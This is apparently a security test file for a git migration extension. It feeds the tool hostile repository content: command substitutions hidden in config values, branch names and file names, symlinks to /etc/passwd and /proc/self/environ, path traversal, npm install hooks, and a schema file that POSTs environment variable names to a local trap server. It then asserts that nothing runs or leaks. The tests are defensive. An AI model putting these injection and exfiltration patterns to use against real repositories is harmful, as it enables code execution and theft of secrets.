// A repository of somebody who means harm: its settings, names and files want to run something,
// to send a key somewhere, or to drive the terminal. Nothing of it happens, and git goes on.
// SPDX-License-Identifier: MIT
import assert from "node:assert/strict";
import { cpSync, existsSync, lstatSync, mkdirSync, readFileSync, readdirSync, symlinkSync } from "node:fs";
import { createServer } from "node:http";
import { join } from "node:path";
import { after, before, describe, it } from "node:test";
import { BUILD } from "./lib/programs.mjs";
import { listen } from "./lib/server.mjs";
import { gitAsleep } from "./lib/trials.mjs";
import { IDS, World, inBegunWorld } from "./lib/world.mjs";

const CODES = [0, 1, 3, 4, 5, 128, 129]; // the man page's
// What the rules of eslint call a mistake is what is looked for here.
// eslint-disable-next-line no-control-regex
const DRIVES = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]/;
const ESCAPES = "\u001b[31m\u001b]0;title\u0007\u009b2J\u202eback\u2066\u2028\u007f";
const LONG = 100_000;

/** Runs it, were it ever given to a shell; `world.root` holds no character that shells mind. */
const touching = (world, name) => `$(touch ${world.root}/marker-${name})`;
const markers = (world) => readdirSync(world.root).filter((name) => name.startsWith("marker"));

function assertHarmless(world, { code, signal, stdout, stderr }, what) {
  assert.ok(CODES.includes(code), `${what} ended with ${code ?? signal}: ${stderr.slice(-2000)}`);
  const found = DRIVES.exec(stdout) ?? DRIVES.exec(stderr);
  assert.equal(found, null, `${what} prints what drives a terminal: ${JSON.stringify(found?.input)}`);
  assert.deepEqual(markers(world), [], `${what} ran something`);
}

const READING = [["status"], ["status", "--json"], ["list"], ["plan"], ["plan", "--json"]];
const ALL = [...READING, ["list", "--json"], ["diff", "main"], ["migrate", "--yes"], ["up"]];
ALL.push(["wait"], ["hooks"], ["continue"], ["abort"], ["cancel"], ["doctor"]);

const SOON_MS = 20_000; // no text is so long that it takes longer

async function harmless(world, commands = READING) {
  for (const args of commands)
    assertHarmless(
      world,
      await world.run("git", ["cvx", "-v", ...args], { limit: SOON_MS }),
      args.join(" ").slice(0, 200),
    );
  for (const word of ["--status-short", "--complete ids", "--complete applied"]) {
    const answer = await world.run(join(BUILD, "git-cvx-hook"), word.split(" "));
    assert.equal(answer.code, 0);
    assertHarmless(world, answer, word);
  }
}

/** Checks out; says what the hooks said, for git itself is quiet. */
async function checkout(world, ...args) {
  const answer = await world.tryGit("checkout", "-q", ...args);
  assert.equal(answer.code, 0, answer.stderr);
  assertHarmless(world, answer, "a checkout");
  return answer;
}

/** A server that nobody must talk to. */
async function startTrap(t) {
  const trap = { requests: 0 };
  const server = createServer((_request, response) => {
    trap.requests++;
    response.end("1.45.0");
  });
  server.on("connection", () => trap.requests++);
  trap.url = await listen(t, server);
  return trap;
}

describe("without a deployment", () => {
  let world = null;
  let branches = 0;
  before(async () => {
    world = await World.open({ begun: true, deployment: false });
    world.link({ url: "http://127.0.0.1:9", adminKey: "closed|0123456789abcdef" });
    await world.checkout("-q", "-b", "harmless");
  });
  after(async () => assert.deepEqual(await world.close(), []));

  /** Commits what `change` does on a branch of its own, goes there by git, and looks around. */
  async function visit(change, commands) {
    const branch = `visit-${branches++}`;
    await world.git("checkout", "-q", "-b", branch);
    await change();
    await world.git("add", "-A");
    if (lstatSync(world.path(".env"), { throwIfNoEntry: false })) await world.git("add", "-f", ".env");
    await world.git("commit", "-q", "--allow-empty", "-m", "A change");
    await checkout(world, "harmless");
    const answer = await checkout(world, branch);
    await harmless(world, commands);
    await checkout(world, "harmless");
    return answer;
  }

  const SETTINGS = {
    "commands, URLs, keys and files": (trap) =>
      [
        `[push]\ncommand = ${touching(world, "push")}\ncli = ./evil\nenv-file = .env.evil`,
        `[hook]\ncommand = ${touching(world, "hook")}\nprogram = ./evil`,
        `[git]\nreader = ./evil\n[cvx]\nclone-id = evil\nenabled = true`,
        `[app]\nurl = ${trap.url}\nadmin-key = some|key\nenv-file = ../.env`,
        `[env "dev"]\nbranch = *\nkind = dev\nurl = ${trap.url}\nkey-variable = HOME`,
        `env-file = /etc/passwd\ndeployment = prod:evil\n`,
      ].join("\n"),
    "folders outside": () => "[app]\npath = ../../../etc\nfunctions = ../..\n",
    "an absolute folder": () => "[app]\npath = /etc\n",
    "folders that come back": () => '[app "x"]\npath = convex/../../../..\n',
    "names that drive the terminal": () =>
      `[app "${ESCAPES}"]\npath = .\n[app "other${ESCAPES}"]\npath = ${ESCAPES}\n`,
    "values that drive the terminal": () => `[policy]\nedited = ${ESCAPES}\n`,
    "keys that drive the terminal": () => `[policy]\n${ESCAPES} = 1\n`,
    "sections that drive the terminal": () => `[${ESCAPES}]\nx = 1\n`,
    "a line without end": () => `[app]\npath = ${"../".repeat(LONG)}\n`,
    "a name without end": () => `[app "${"x".repeat(LONG)}"]\n${"y".repeat(LONG)} = 1\n`,
    "sections without end": () => '[env "x"]\nkind = dev\n'.repeat(5000),
    "NUL bytes": () => "[hook]\nmode = off\n\0\npath = ..\n",
    "a byte order mark and odd ends of lines": () => "\ufeff[app]\r\npath = .\r\r\n\v\f[x\r\n",
    "no text at all": () => Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919) % 256)),
    "something much too large": () => "# x\n".repeat(500_000),
  };
  for (const [name, text] of Object.entries(SETTINGS))
    it(`settings: ${name}`, async (t) => {
      const trap = await startTrap(t);
      await visit(() => world.write(".cvx.ini", text(trap)));
      assert.equal(trap.requests, 0);
    });

  it("settings: a link in their place", async () => {
    const config = join(world.home, ".convex/config.json");
    mkdirSync(join(world.home, ".convex"), { recursive: true });
    symlinkSync("/dev/null", config);
    for (const target of ["/dev/zero", "/dev/tty", "/etc/passwd", "../home/.convex/config.json", "."]) {
      const link = () => symlinkSync(target, world.path(".cvx.ini"));
      const { stderr } = await visit(link, [["list"], ["status"]]);
      assert.doesNotMatch(stderr, /root:/);
      assert.match(stderr, /'\.cvx\.ini' is a link, and isn't followed/);
    }
  });

  it("settings: a folder in their place", () =>
    visit(() => world.write(".cvx.ini/.cvx.ini", "[hook]\n")));

  it("a committed URL gets no key of somebody else", async (t) => {
    const trap = await startTrap(t);
    const key = "CONVEX_SELF_HOSTED_ADMIN_KEY='closed|0123456789abcdef'\n";
    const before = world.read(".env.local");
    world.write(".env.local", key);
    const { stderr } = await visit(
      () => world.write(".env", `CONVEX_SELF_HOSTED_URL=${trap.url}\n`),
      ALL,
    );
    assert.match(stderr, /error: the key of '\.env\.local' is not sent to the URL of '\.env'/);
    world.write(".env.local", before);
    assert.equal(trap.requests, 0);
  });

  it("a URL that is committed behind a link gets no key either", async (t) => {
    const trap = await startTrap(t);
    const url = `CONVEX_SELF_HOSTED_URL=${trap.url}\n`;
    const env = { CONVEX_SELF_HOSTED_ADMIN_KEY: "closed|0123456789abcdef" };
    const before = world.read(".env.local");
    const own = { ...world.env };
    t.after(() => (world.env = own));
    world.env = { ...own, ...env };
    world.remove(".env.local");
    const behind = {
      "the app's folder": async () => {
        world.write(".cvx.ini", "[cvx]\n\tversion = 1\n[app]\n\tpath = app\n");
        cpSync(world.path("convex"), world.path("real/convex"), { recursive: true });
        world.write("real/package.json", world.read("package.json"));
        world.write("real/.env", url);
        symlinkSync("real", world.path("app"));
        await world.git("add", "-f", "real/.env");
      },
      "the file": () => {
        world.write("settings.txt", url);
        symlinkSync("settings.txt", world.path(".env"));
      },
    };
    for (const write of Object.values(behind)) await visit(write, ALL);
    world.write(".env.local", before);
    assert.equal(trap.requests, 0);
  });

  it("links in the place of .env", async () => {
    world.remove(".env.local");
    for (const target of ["/dev/zero", "/dev/tty", "/proc/self/environ", "/etc"])
      await visit(() => symlinkSync(target, world.path(".env")), [["status"], ["migrate"]]);
    world.link({ url: "http://127.0.0.1:9", adminKey: "closed|0123456789abcdef" });
  });

  it("names of branches, tags, files, and messages of commits", async () => {
    const odd = touching(world, "name").replaceAll(" ", "${IFS}");
    const names = [
      `a;b|c&d'"${odd}\``,
      `x/${odd}`,
      `seen-\u009b31m-\u202eback-\u2066`,
      `-${"l".repeat(200)}`.slice(1),
    ];
    for (const name of names) {
      await world.git("checkout", "-q", "-b", name);
      const file = `convex/migrations/20990101_${branches++}${ESCAPES}\n${odd.replaceAll("/", "")}.ts`;
      world.write(file, world.read(`convex/migrations/${IDS.role}.ts`));
      world.write(`convex/${ESCAPES}.ts`, "export {};\n");
      await world.git("add", "-A");
      await world.git("commit", "-q", "-m", `${ESCAPES}\n\n${odd}`);
      await world.git("tag", "-a", `tag-${name}`, "-m", ESCAPES);
      await checkout(world, "harmless");
      await checkout(world, name);
      await harmless(world, [...ALL, ["list", name], ["diff", "main", `tag-${name}`]]);
      world.remove(file);
      await world.git("commit", "-q", "-a", "-m", "Without it");
      await harmless(world, [...ALL, ["plan", `main..${name}`], ["plan", `tag-${name}`]]);
      await checkout(world, "harmless");
    }
    for (const word of [ESCAPES, odd, `--app=${ESCAPES}`, "../../..", "x".repeat(LONG)])
      await harmless(world, [[word], ["list", word], ["down", word], ["mark", "--applied", word]]);
  });

  it("package.json and convex.json", async () => {
    const functions = ["../../..", "/etc", `con${ESCAPES}vex`, touching(world, "json"), "", "."];
    const texts = functions.map((folder) => JSON.stringify({ functions: folder }));
    texts.push('{"functions": 7}', '{"functions": ["x"]}', "[".repeat(LONG), '{"a\0":1}', "\ufeff{}");
    texts.push(`{"functions": "${"x/".repeat(LONG)}"}`, `{"${ESCAPES}"`);
    for (const text of texts) await visit(() => world.write("convex.json", text), [["list"], ["plan"]]);
    const command = `touch ${world.root}/marker-script`;
    const hooks = ["preinstall", "postinstall", "prepare", "predeploy", "convex"];
    const scripts = Object.fromEntries(hooks.map((name) => [name, command]));
    const odd = [{ scripts, bin: { convex: "./evil" }, name: ESCAPES }, [], "x", null];
    for (const value of odd) await visit(() => world.write("package.json", JSON.stringify(value)), ALL);
  });
});

const EVIL = (world, name) => `#!/bin/sh\ntouch ${world.root}/marker-${name}\n`;

it(
  "programs that come with a branch are not run",
  inBegunWorld(async (world) => {
    await gitAsleep(world, "checkout", "-q", "-b", "evil", "feature/split-name");
    world.remove("node_modules");
    for (const name of [".bin/convex", ".bin/esbuild", "convex/bin/main.js", "esbuild/bin/esbuild"])
      world.write(`node_modules/${name}`, EVIL(world, name.replaceAll("/", "-")));
    world.write("node", EVIL(world, "node"));
    world.write("git-cvx", EVIL(world, "git-cvx"));
    await world.run("chmod", ["-R", "+x", "node_modules", "node", "git-cvx"]);
    await world.git("add", "-A", "-f", "node_modules", "node", "git-cvx");
    await gitAsleep(world, "commit", "-q", "-m", "Bring programs along");
    await gitAsleep(world, "checkout", "-q", "main");
    const { stderr } = await checkout(world, "evil");
    assert.match(stderr, /error: 'node_modules\/.*' is committed/);
    await harmless(world, [["migrate", "--yes"], ["status"]]);
    assert.equal((await world.ledger())[IDS.splitName], undefined);
  }),
);

it(
  "nothing of a branch is evaluated at a checkout, and files are written where they belong",
  inBegunWorld(async (world, t) => {
    const trap = await startTrap(t);
    const outside = join(world.home, "outside");
    mkdirSync(outside);
    await world.git("checkout", "-q", "-b", "links", "feature/split-name");
    symlinkSync(outside, world.path("convex/lib"));
    symlinkSync(outside, world.path("lib"));
    await world.git("add", "-A");
    await world.git("commit", "-q", "-m", "Links to elsewhere");
    await checkout(world, "main");
    await checkout(world, "links");
    await world.git("checkout", "-q", "-b", "files");
    for (const folder of ["convex/lib", "lib"]) {
      world.remove(folder);
      world.write(`${folder}/escaped.ts`, "export const x = 1;\n");
    }
    await world.git("add", "-A");
    await world.git("commit", "-q", "-m", "Files in their place");
    await world.mustCvx("migrate", "--yes");
    await checkout(world, "main");
    await checkout(world, "files");
    assert.deepEqual(readdirSync(outside), []);

    await checkout(world, "main");
    await gitAsleep(world, "checkout", "-q", "-b", "schema", "feature/split-name");
    const schema = world.read("convex/schema.ts");
    const mark = (name) => JSON.stringify(join(world.root, `marker-${name}`));
    world.write(
      "convex/schema.ts",
      [
        "const { process } = globalThis as any;",
        "if (process?.versions?.node) {",
        '  const use = (name: string) => process.getBuiltinModule(name);',
        `  try { use("fs").writeFileSync(${mark("schema")}, ""); } catch {}`,
        `  try { use("child_process").execFileSync("touch", [${mark("child")}]); } catch {}`,
        `  process.stderr.write(${JSON.stringify(ESCAPES)});`,
        `  fetch(${JSON.stringify(trap.url)}, { method: "POST", body: Object.keys(process.env).join() });`,
        "  process.kill(process.ppid);",
        "  setTimeout(() => {}, 60_000);",
        "}",
        schema,
      ].join("\n"),
    );
    await gitAsleep(world, "commit", "-q", "-a", "-m", "A schema that does more");
    await gitAsleep(world, "checkout", "-q", "main");
    const { stderr } = await checkout(world, "schema");
    assert.match(stderr, /pushing schema/);
    assert.notEqual((await world.ledger())[IDS.splitName], undefined);
    assert.equal(trap.requests, 0);
    await harmless(world);
    const log = world.path(".git/cvx/log");
    for (const name of existsSync(log) ? readdirSync(log) : [])
      assert.doesNotMatch(readFileSync(join(log, name), "utf8"), DRIVES);
  }),
);
